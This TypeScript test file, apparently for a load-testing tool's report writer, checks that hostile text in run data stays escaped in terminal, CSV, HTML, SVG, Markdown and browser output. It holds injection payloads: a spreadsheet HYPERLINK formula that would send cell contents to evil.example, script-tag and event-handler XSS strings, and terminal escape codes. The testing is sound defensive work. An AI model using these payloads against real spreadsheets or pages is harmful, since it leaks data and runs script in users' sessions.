/** What a user, a target or an exporter has written stays text in every output. */
import assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { RunFile } from '../../core/record.ts';
import { terminalTable } from '../../report/terminal.ts';
import { writeReport } from '../../report/write-report.ts';
import { renderedIn, unpackGolden } from '../../scripts/golden/golden-runs.ts';
import { openBrowser, openPage } from '../support/browser.ts';
import { needs } from '../support/needs.ts';

const EVIL = [
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `</title></style><script>window.evil=1</script><img src=x onerror="window.evil=1">`,
  `"><svg/onload=window.evil=1> ' onfocus=window.evil=1 autofocus='`,
  `**bold** [link](https://evil.example) ![i](https://evil.example/i.png) \`code\` | cell | @team #12 <b>`,
  `\u0000\u001b]0;evil\u0007\u001b[31m\n# heading\n- item`,
].join(' ');

const folder = mkdtempSync(join(tmpdir(), 'connrig-hostile-'));
after(() => rmSync(folder, { recursive: true }));
unpackGolden('lost-target', folder);
const path = join(folder, 'run.json');
const run = RunFile.parse(JSON.parse(readFileSync(path, 'utf8')));
const target = { ...run.target, name: EVIL, urls: [EVIL] };
const environment = { ...run.environment, cpuModel: EVIL, kernel: EVIL };
const instances = [{ name: EVIL, memoryBytes: 2 ** 30, reservedBytes: 0, pricePerHour: 1, replicas: 1 }];
const sizing = { connections: 1000, spare: 0, headroomPercent: null, currency: EVIL, instances };
const config = { ...run.config, command: EVIL, behaviour: { kind: EVIL }, sizing };
writeFileSync(path, JSON.stringify({ ...run, name: EVIL, target, environment, config }));
const events = readFileSync(join(folder, 'events.jsonl'), 'utf8');
const warning = { type: 'warning', elapsedMs: 1, text: EVIL };
const error = { type: 'error', elapsedMs: 1, code: EVIL, message: EVIL, hint: EVIL };
writeFileSync(join(folder, 'events.jsonl'), `${JSON.stringify(warning)}\n${JSON.stringify(error)}\n${events}`);
appendFileSync(join(folder, 'samples.jsonl'), EVIL);
const summary = writeReport(folder);
const files = renderedIn(folder);

test('in a terminal it steers nothing', () => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: it is these that are meant.
  assert.doesNotMatch(terminalTable(summary), /[\u0000-\u0009\u000b-\u001f]/);
});

test('in a spreadsheet it is no formula, and stays in its cell', () => {
  const [head, ...lines] = files.get('levels.csv')!.split('\n');
  assert.equal(head!.split(',').at(-1), 'run');
  assert.match(lines[0]!, /^tcp,1000,[^"]*,"'=HYPERLINK\(""https:/);
});

test('in HTML it is neither an element nor an attribute', () => {
  const html = files.get('report.html')!;
  assert.equal(html.match(/<title>/g)?.length, 1);
  assert.doesNotMatch(html, /<script|<img|<b>|onerror="|<svg\//);
  assert.ok(html.includes('&#60;script&#62;window.evil=1&#60;/script&#62;'));
});

test('no chart says anything of it', () => {
  for (const [name, text] of files) if (name.endsWith('.svg')) assert.doesNotMatch(text, /evil|HYPERLINK/, name);
});

test('in Markdown it is code, or escaped', () => {
  const text = files.get('report.md')!;
  assert.match(text.split('\n')[0]!, /^# /);
  assert.equal(text.match(/^# /gm)?.length, 1);
  for (const line of text.split('\n')) {
    // A code span with a fence of any length shows what is in it, to the letter.
    const outside = line.replace(/(?<![\\`])(`+)(?!`)(.*?)(?<!`)\1(?!`)/g, '');
    assert.doesNotMatch(outside, /(?<!\\)<|(?<!\\)\*\*bold|(?<!\\)\[link|https:|@team|#12/, line);
  }
});

test('in a browser nothing of it runs, and nothing is asked for', { skip: needs('chromium') }, async (t) => {
  const { page, troubles } = await openPage(await openBrowser(t), `file://${join(folder, 'report.html')}`);
  assert.equal(await page.evaluate('window.evil'), undefined);
  assert.deepEqual(troubles, []);
  assert.equal(await page.locator('script, img, b, iframe').count(), 0);
  assert.ok((await page.title()).includes('<script>'));
});
